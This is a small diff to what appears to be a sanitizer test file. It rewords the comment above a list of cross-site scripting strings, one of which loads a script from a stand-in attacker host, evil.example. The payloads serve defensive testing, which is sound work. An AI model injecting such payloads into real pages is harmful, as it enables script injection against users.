@@ -1,4 +1,4 @@
-/** Each calls `xss()` if it gets its way, or sends a request to a host of its own. */
+/** Attacks that call `xss()` or send a request to another host if they succeed. */
 const rawMarkup = [
   '<script>xss()</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
